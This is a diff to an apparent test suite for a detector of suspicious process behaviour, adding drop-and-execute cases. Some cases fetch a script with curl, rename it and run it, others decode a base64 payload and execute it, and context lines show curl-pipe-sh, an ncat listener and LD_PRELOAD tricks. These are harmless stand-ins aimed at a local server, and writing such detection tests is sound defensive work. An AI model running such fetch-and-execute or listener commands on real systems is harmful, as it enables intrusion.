@@ -313,6 +313,7 @@ def env():
         www.mkdir()
         (www / "install.sh").write_text("echo installed-by-pipe\n")
         (www / "data.json").write_text('{"ok": true}\n')
+        (www / "tool.sh").write_text("#!/bin/sh\nexit 0\n")
         write_index(www)
         httpd = http.server.ThreadingHTTPServer(
             ("127.0.0.1", 0),
@@ -679,6 +680,15 @@ FIRE = [
         "LD_PRELOAD=/lib/x86_64-linux-gnu/libm.so.6 /bin/true")),
     Case("loader-env-on-exec", "glibc-tunables", argv=sh(
         "GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true")),
+    Case("drop-and-execute", "fetched-renamed-run", argv=sh("""
+        curl -fsS -o "$WORK/dl.tmp" "$HTTP/tool.sh"
+        mv "$WORK/dl.tmp" "$WORK/tool" && chmod +x "$WORK/tool"
+        "$WORK/tool" > /dev/null
+        """)),
+    Case("drop-and-execute", "base64-decoded", argv=sh("""
+        echo IyEvYmluL3NoCmV4aXQgMAo= | base64 -d > "$WORK/dec"
+        chmod +x "$WORK/dec" && "$WORK/dec"
+        """)),
     Case("network-tool-exec", "ncat", argv=sh('"$NCAT" -l 4444')),
     Case("download-and-execute", "curl-pipe-sh",
          argv=sh('curl -fsS "$HTTP/install.sh" | sh')),
@@ -1111,6 +1121,13 @@ BENIGN = [
 
 
 BENIGN += [
+    Case("drop-and-execute", "built-and-fetched-data", argv=sh("""
+        set -e
+        curl -fsS -o "$WORK/data.json" "$HTTP/data.json"
+        python3 -m json.tool "$WORK/data.json" > /dev/null
+        cc -O2 -o "$WORK/built" "$WORK/src/hello.c" && "$WORK/built"
+        echo aGVsbG8K | base64 -d > "$WORK/note.txt" && cat "$WORK/note.txt"
+        """), check=execed("curl", "built", "base64")),
     Case("credential-hunting", "code-search", argv=sh("""
         grep -rn password "$WORK" > /dev/null || true
         grep -rn 'api_key\\|token' "$WORK/src" > /dev/null || true
